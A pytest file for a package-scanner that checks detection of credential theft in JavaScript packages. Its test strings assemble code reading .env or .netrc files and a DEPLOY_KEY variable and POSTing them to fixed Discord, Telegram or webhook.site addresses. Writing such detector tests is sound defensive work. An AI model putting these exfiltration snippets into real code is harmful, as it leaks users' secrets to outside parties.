"""Secret files that are picked by their names, and chats that stand in the code in full. All inert text."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from adapters.sigil.local.material import Package
from adapters.sigil.models import PhaseName
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack


@pytest.fixture
def scan(pack: Pack, outcome: Callable[[Package], Outcome]) -> Callable[[str], Outcome]:
    """Code of a package, and what the phases make of it."""
    return lambda code: outcome(pack({"package.json": {"name": "sample"}, "index.js": code}))


_FIXED = "'https://discord.com/api/webhooks/1/abc'"
_PICKS = {
    "a filter": "for (const n of fs.readdirSync(root).filter((n) => n === '.env')) {",
    "what begins so": "for (const n of fs.readdirSync(root).filter((n) => n.startsWith('.env'))) {",
    "all else left out": "for (const n of fs.readdirSync(root)) { if (n !== '.netrc') continue;",
    "a pattern": "for (const n of fs.readdirSync(root)) { if (!/^\\.env/.test(n)) continue;",
    "a condition": "for (const n of fs.readdirSync(root)) if (n.endsWith('.env')) {",
}
_KEPT_OUT = {
    "left out by a filter": "for (const n of fs.readdirSync(root).filter((n) => n !== '.env')) {",
    "left out by name": "for (const n of fs.readdirSync(root)) { if (n === '.env') continue;",
    "left out by its beginning": "for (const n of fs.readdirSync(root)) { if (n.startsWith('.env')) { continue; }",
    "another name": "for (const n of fs.readdirSync(root).filter((n) => n === '.editorconfig')) {",
}


def _sending(loop: str, address: str) -> str:
    """Write a module that sends what a loop over a folder picks."""
    return (
        "const fs = require('fs'), path = require('path');\nexports.check = (root, hook) => {\n"
        f"  {loop}\n    const text = fs.readFileSync(path.join(root, n), 'utf8');\n"
        f"    fetch({address}, {{ method: 'POST', body: JSON.stringify({{ content: text }}) }});\n  }}\n}};"
    )


@pytest.mark.parametrize("loop", _PICKS.values(), ids=_PICKS)
def test_a_secret_file_picked_by_its_name(loop: str, scan: Callable[[str], Outcome]) -> None:
    """A file that is picked by a secret one's name from a folder is that; to a chat fixed in the code it is stolen."""
    found = scan(_sending(loop, _FIXED))
    assert found.dangerous
    assert "secret-file-leaves" in found.rules(PhaseName.CREDENTIALS)


@pytest.mark.parametrize(
    ("loop", "address"), [*((loop, _FIXED) for loop in _KEPT_OUT.values()), (_PICKS["a filter"], "hook")]
)
def test_secret_files_left_out_or_sent_where_the_caller_says(
    loop: str, address: str, scan: Callable[[str], Outcome]
) -> None:
    """Who leaves secret files out by their names, or sends to the caller's own address, steals none."""
    assert not scan(_sending(loop, address)).dangerous


@pytest.mark.parametrize(
    ("address", "dangerous"),
    [
        ("'https://api.telegram.org/bot1:abc/sendMessage'", True),
        ("'https://webhook.site/1-2'", True),
        ("`https://api.telegram.org/bot${token}/sendMessage`", False),
    ],
)
def test_a_secret_of_the_environment_to_a_fixed_chat(
    *, address: str, dangerous: bool, scan: Callable[[str], Outcome]
) -> None:
    """A secret goes to somebody else's chat where the code says which; where a caller does, it is the caller's own."""
    code = f"exports.told = (token) => fetch({address}, {{ method: 'POST', body: process.env.DEPLOY_KEY }});"
    assert scan(code).dangerous is dangerous
